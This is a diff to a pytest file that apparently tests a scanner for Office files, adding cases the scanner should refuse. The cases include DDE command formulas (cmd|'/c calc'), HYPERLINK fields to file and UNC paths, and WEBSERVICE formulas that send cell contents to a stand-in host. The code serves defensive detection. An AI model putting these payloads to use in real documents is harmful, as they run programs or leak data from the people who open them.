@@ -237,6 +237,10 @@ class TestFields:
             f"<w:document {WORD}><w:instrText>DDE x</w:instrText></w:document>",
             field("DDE x").replace("instrText", "delInstrText"),
             field("DDE x").replace("w:", "z:").replace("xmlns:z", "xmlns:z"),
+            field('HYPERLINK "file://192.0.2.1/x.exe"'),
+            field('HYPERLINK "\\\\192.0.2.1\\x"'),
+            field('HYPERLINK "java', 'script:x" \\o "page"'),
+            field('HYPERLINK \\o "page" "file://192.0.2.1/x"'),
         ],
     )
     def test_that_start_a_program_or_read_a_file(self, text):
@@ -254,6 +258,8 @@ class TestFields:
             field("= ", "1 + 2"),
             field('INCLUDEPICTURE "https://mmbiz.qpic.cn/x.jpg" \\* MERGEFORMATINET'),
             field("REF ddeauto"),
+            field('HYPERLINK "https://huadu.gov.cn/" \\o "note: see there"'),
+            field('HYPERLINK \\l "_Toc1" \\h'),
             field('IF 1 = 2 "DDEAUTO" "x"'),
         ],
     )
@@ -279,6 +285,12 @@ class TestFormulas:
             '_xlfn.WEBSERVICE("http://192.0.2.1/"&amp;A1)',
             'RTD("prog",,"x")',
             '_xlfn.IMAGE("http://192.0.2.1/x")',
+            # In single quotes a double one begins no text, and two single ones are one.
+            'cmd|\'/c calc " \'!A0&amp;"x"',
+            "cmd|'/c ''calc'' '!A0",
+            '\'a" \'!B1&amp;WEBSERVICE("http://192.0.2.1"&amp;"\'")',
+            'HYPERLINK("file://192.0.2.1/x","page")',
+            'hyperlink( "\\\\192.0.2.1\\x")',
         ],
     )
     def test_that_call_out_of_the_table(self, formula):
@@ -295,6 +307,14 @@ class TestFormulas:
     )
     def test_of_other_kinds_are_taken(self, formula):
         assert check(sheet(formula), "x.xlsx")
+
+    @pytest.mark.parametrize("name", ["calculatedColumnFormula", "totalsRowFormula"])
+    def test_of_the_columns_of_a_table_too(self, name):
+        text = f'<table><{name}>WEBSERVICE("http://192.0.2.1")</{name}></table>'
+
+        file = office_file({"xl/worksheets/sheet1.xml": text}, main="xl/workbook.xml")
+
+        assert refused(file, "x.xlsx")
 
     def test_a_link_by_dde(self):
         link = "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
